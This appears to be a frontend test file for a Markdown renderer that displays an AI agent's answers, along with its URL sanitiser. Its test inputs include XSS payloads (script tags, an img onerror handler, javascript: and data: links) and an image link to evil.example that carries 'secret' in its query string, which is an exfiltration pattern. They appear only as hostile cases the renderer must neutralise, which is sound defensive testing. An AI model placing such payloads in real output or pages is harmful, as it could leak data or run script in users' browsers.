import { cleanup, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";

import { Markdown } from "./Markdown";
import { safeUrl } from "./safeUrl";

afterEach(cleanup);

function drawn(text: string): HTMLElement {
  return render(<Markdown text={text} />).container;
}

describe("an answer's Markdown", () => {
  it("draws headings, lists, tables and code", () => {
    const page = drawn("# Title\n\n* one\n* two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```py\nprint(1)\n```\n");

    expect(page.querySelector("h2")?.textContent).toBe("Title");
    expect(page.querySelectorAll("li")).toHaveLength(2);
    expect(page.querySelectorAll("td")[1]?.style.textAlign).toBe("right");
    expect(screen.getByRole("button", { name: "Copy code" })).toBeTruthy();
    expect(page.querySelector("pre code")?.textContent).toBe("print(1)");
  });

  it("shows HTML as text and never makes it part of the page", () => {
    const page = drawn('<img src=x onerror="alert(1)">\n\nand <script>alert(2)</script> inline <b>bold</b>');

    expect(page.querySelector("img, script, b")).toBeNull();
    expect(page.textContent).toContain("<script>alert(2)</script>");
  });

  it("fetches no picture that an agent names", () => {
    const page = drawn("![secret](https://evil.example/?q=secret)");

    expect(page.querySelector("img")).toBeNull();
    expect(page.querySelector("a")?.textContent).toBe("secret (image)");
  });

  it("opens links in a tab of their own, without a referrer", () => {
    const link = drawn("[docs](https://example.org/a?b=1&c=2)").querySelector("a");

    expect(link?.getAttribute("href")).toBe("https://example.org/a?b=1&c=2");
    expect(link?.rel).toContain("noopener");
    expect(link?.target).toBe("_blank");
  });

  it("a link that would run a script is no link", () => {
    const page = drawn("[run](javascript:alert(1)) [data](data:text/html,x) [file](src/main.py)");

    expect(page.querySelector("a")).toBeNull();
    expect(page.textContent).toContain("run");
  });

  it("reads character references as the signs they stand for", () => {
    expect(drawn("a &lt; b &amp; c").textContent).toBe("a < b & c");
  });

  it("an open code block is drawn while it is being written", () => {
    const page = render(<Markdown text={"```ts\nconst a = 1;"} streaming />).container;

    expect(page.querySelector("pre code")?.textContent).toBe("const a = 1;");
  });
});

describe("safe addresses", () => {
  it.each(["https://a.example", "http://localhost:3000/x", "mailto:a@b.example"])("%s may be opened", (url) => {
    expect(safeUrl(url)).toBe(url);
  });

  it.each(["javascript:alert(1)", " JavaScript:alert(1)", "java\nscript:alert(1)", "vbscript:x", "file:///etc/passwd", "//host", "x/y"])(
    "%s may not",
    (url) => {
      expect(safeUrl(url)).toBeNull();
    },
  );
});
